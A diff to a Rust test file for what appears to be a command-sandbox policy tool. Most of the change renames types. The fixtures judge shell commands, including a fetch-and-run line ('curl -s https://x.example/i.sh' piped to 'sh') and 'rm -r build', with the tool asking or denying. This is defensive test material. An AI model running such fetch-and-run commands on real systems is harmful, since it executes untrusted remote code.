@@ -3,12 +3,12 @@
 use std::time::{Duration, Instant};
 
 use haft_contract::effect::Danger;
-use haft_contract::process::Level;
+use haft_contract::process::ConfinementLevel;
 use haft_policy::decision::{Class, Decision, Ruling};
 use haft_policy::effect_kind::EffectKind;
 
 use super::shown;
-use haft_host::explain::judged::{Confined, Explained, JudgedPart};
+use haft_host::explain::judged::{CommandConfinement, CommandExplanation, JudgedPart};
 
 fn ruling(decision: Decision, rule: &str, reason: &str) -> Ruling {
     let (rule, reason) = (rule.to_owned(), reason.to_owned());
@@ -16,7 +16,7 @@ fn ruling(decision: Decision, rule: &str, reason: &str) -> Ruling {
 }
 
 /// A command with its parts: the text, what it does, the decision and the rule.
-fn explained(command: &str, parts: &[(&str, &str, Decision, &str)]) -> Explained {
+fn explained(command: &str, parts: &[(&str, &str, Decision, &str)]) -> CommandExplanation {
     let parts: Vec<JudgedPart> = parts
         .iter()
         .map(|(text, does, decision, rule)| {
@@ -27,16 +27,16 @@ fn explained(command: &str, parts: &[(&str, &str, Decision, &str)]) -> Explained
         })
         .collect();
     let ruling = parts.iter().map(|part| part.ruling.clone()).reduce(Ruling::stricter).expect("there is a part");
-    let confined = Confined { required: Level::Full, network: false, by_name: false };
-    Explained { command: command.to_owned(), ruling, parts, confined, in_session: None, grants: Vec::new() }
+    let confined = CommandConfinement { required: ConfinementLevel::Full, network: false, by_name: false };
+    CommandExplanation { command: command.to_owned(), ruling, parts, confined, in_session: None, grants: Vec::new() }
 }
 
-fn shown(explained: &Explained, width: usize) -> String {
+fn shown(explained: &CommandExplanation, width: usize) -> String {
     let lines: Vec<String> = shown::lines(explained, width).iter().map(shown::ShownLine::text).collect();
     lines.join("\n")
 }
 
-fn downloaded() -> Explained {
+fn downloaded() -> CommandExplanation {
     let parts = [
         ("curl -s https://x.example/i.sh", "connect to x.example", Decision::Ask, "network"),
         ("sh", "run text that comes from the network", Decision::Deny, "downloaded code"),
@@ -53,7 +53,7 @@ fn a_command_with_thousands_of_effects_is_shown_in_time() {
     let told: Vec<String> = (0..9_000).map(|number| format!("remove f{number}")).collect();
     let one = explained(&command, &[(&command, "remove f", Decision::Ask, "removals")]);
     let part = |does: &String| JudgedPart { does: does.clone(), ..one.parts[0].clone() };
-    let explained = Explained { parts: told.iter().map(part).collect(), ..one };
+    let explained = CommandExplanation { parts: told.iter().map(part).collect(), ..one };
 
     let begun = Instant::now();
     let shown = shown(&explained, 100);
@@ -121,11 +121,12 @@ fn a_command_that_is_asked_about_says_how_it_would_run_and_what_can_be_granted()
 fn what_undo_does_not_cover_is_named() {
     let mut explained =
         explained("rm -r build", &[("rm -r build", "remove build", Decision::Ask, "commands that remove")]);
-    let said = |explained: &Explained| shown(explained, 200).lines().last().map(str::to_owned).unwrap_or_default();
+    let said =
+        |explained: &CommandExplanation| shown(explained, 200).lines().last().map(str::to_owned).unwrap_or_default();
     insta::assert_snapshot!(said(&explained), @"If allowed, it runs: in the full sandbox, without the network, can be undone");
-    explained.confined = Confined { by_name: true, ..explained.confined };
+    explained.confined = CommandConfinement { by_name: true, ..explained.confined };
     insta::assert_snapshot!(said(&explained), @"If allowed, it runs: in the full sandbox, network only to hosts that you allow, can be undone");
-    explained.confined = Confined { network: true, by_name: false, ..explained.confined };
+    explained.confined = CommandConfinement { network: true, by_name: false, ..explained.confined };
     insta::assert_snapshot!(said(&explained), @"If allowed, it runs: in the full sandbox, with the network, to any host, changes to files can be undone, sent data cannot");
     explained.confined.by_name = true;
     insta::assert_snapshot!(said(&explained), @"If allowed, it runs: in the full sandbox, with the network, to the hosts that you allow, changes to files can be undone, sent data cannot");
